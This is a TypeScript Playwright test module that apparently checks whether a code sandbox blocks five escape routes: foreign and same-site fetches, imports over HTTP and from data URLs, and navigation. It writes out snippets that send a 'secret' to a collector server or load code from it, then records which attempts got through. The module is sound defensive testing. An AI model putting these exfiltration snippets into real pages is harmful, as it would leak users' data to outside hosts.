/** Five ways out of the sandbox, each closed by a part of it that the others do not need. */
import type { Page } from 'playwright';
import type { Collector } from '../site/collect-requests.ts';
import type { Mutation } from '../site/mutate-sandbox.ts';
import type { Site } from '../site/serve-site.ts';
import { attack, attempting } from './attack-page.ts';

/** The ways out, by name. */
export const WAYS_OUT = ['foreign fetch', 'own fetch', 'import over http', 'import of data', 'navigation'] as const;
export type WayOut = (typeof WAYS_OUT)[number];

/** Addresses that an attack aims at. */
export type Targets = Readonly<{ collector: Collector; site: Site }>;

/** The code of those that start in a cell. */
export function codeOf(way: Exclude<WayOut, 'navigation'>, { collector, site }: Targets): string {
  switch (way) {
    case 'foreign fetch':
      return `await fetch('${collector.origin}/fetched?secret', { mode: 'no-cors' });`;
    case 'own fetch':
      return `await fetch('${site.url('fetched?secret')}', { mode: 'no-cors' });`;
    case 'import over http':
      return `await import(['${collector.origin}/imported.js?secret'][0]);`;
    case 'import of data':
      return `await import(['data:text/javascript,export const reached = true;'][0]);`;
  }
}

/** The frame as it would be if an attacker had got into it: it leaves for the collector. */
export const navigating = ({ origin }: Collector): Mutation => ({
  bootstrap: () => `location.href = '${origin}/navigated?secret';`,
});

/** Tries the ways that start in a cell, one after the other, and says which got through. */
export async function tryWaysOut(page: Page, targets: Targets): Promise<WayOut[]> {
  const open: WayOut[] = [];
  for (const way of WAYS_OUT) {
    if (way === 'navigation') continue;
    const shown = await attack(page, attempting(codeOf(way, targets)));
    if (hasGotThrough(way, shown, targets)) open.push(way);
  }
  return open;
}

/** Servers are believed, and the cell only where no request is needed. */
export function hasGotThrough(way: WayOut, shown: string, { collector, site }: Targets): boolean {
  switch (way) {
    case 'foreign fetch':
      return collector.hits.some((hit) => hit.includes('/fetched'));
    case 'own fetch':
      return site.requests.some((path) => path.includes('fetched'));
    case 'import over http':
      return collector.hits.some((hit) => hit.includes('/imported.js'));
    case 'import of data':
      return shown.includes('got through');
    case 'navigation':
      return collector.hits.some((hit) => hit.includes('/navigated'));
  }
}
